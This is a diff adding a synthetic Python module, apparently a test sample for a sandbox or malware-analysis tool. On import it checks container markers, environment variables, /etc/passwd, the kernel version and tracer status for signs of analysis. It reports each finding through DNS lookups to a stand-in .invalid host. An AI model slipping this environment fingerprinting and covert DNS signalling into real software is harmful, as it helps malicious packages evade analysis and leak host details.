@@ -1,0 +1,48 @@
+"""SYNTHETIC: sandbox/analysis detection at import. Each giveaway it finds is reported as a DNS
+lookup of <tell>.tell.probe.invalid (answered by the sandbox's fake resolver, nowhere else)."""
+import os
+import socket
+
+WORDS = ("docker", "container", "sandbox", "analysis", "gvisor", "runsc", "slopspotter", "strace", "lxc", "kube")
+
+
+def read(path, n=65536):
+    try:
+        with open(path, "rb") as fh:
+            return fh.read(n).decode("latin-1").lower()
+    except OSError:
+        return ""
+
+
+tells = set()
+if os.path.exists("/.dockerenv"):
+    tells.add("dockerenv")
+if os.path.exists("/run/.containerenv"):
+    tells.add("containerenv")
+sources = {
+    "hostname": socket.gethostname().lower(),
+    "cgroup": read("/proc/1/cgroup") + read("/proc/self/cgroup"),
+    "environ": "\n".join(f"{k}={v}" for k, v in os.environ.items()).lower(),
+    "mounts": read("/proc/self/mountinfo"),
+    "user": os.environ.get("USER", "").lower() + read("/etc/passwd"),
+    "sched": read("/proc/1/sched", 200),
+    "version": read("/proc/version"),
+    "cmdline1": read("/proc/1/cmdline"),
+}
+for src, text in sources.items():
+    for word in WORDS:
+        if word in text:
+            tells.add(f"{src}-{word}")
+status = read("/proc/self/status")
+tracer = next((line.split()[1] for line in status.splitlines() if line.startswith("tracerpid:")), "0")
+if tracer != "0":
+    tells.add("tracerpid")
+if "4.4.0" in sources["version"]:
+    tells.add("gvisor-kernel-version")
+if len(sources["hostname"]) == 12 and all(c in "0123456789abcdef" for c in sources["hostname"]):
+    tells.add("hostname-container-id")
+for tell in sorted(tells) or ["none"]:
+    try:
+        socket.getaddrinfo(f"{tell}.tell.probe.invalid", 80)
+    except OSError:
+        pass
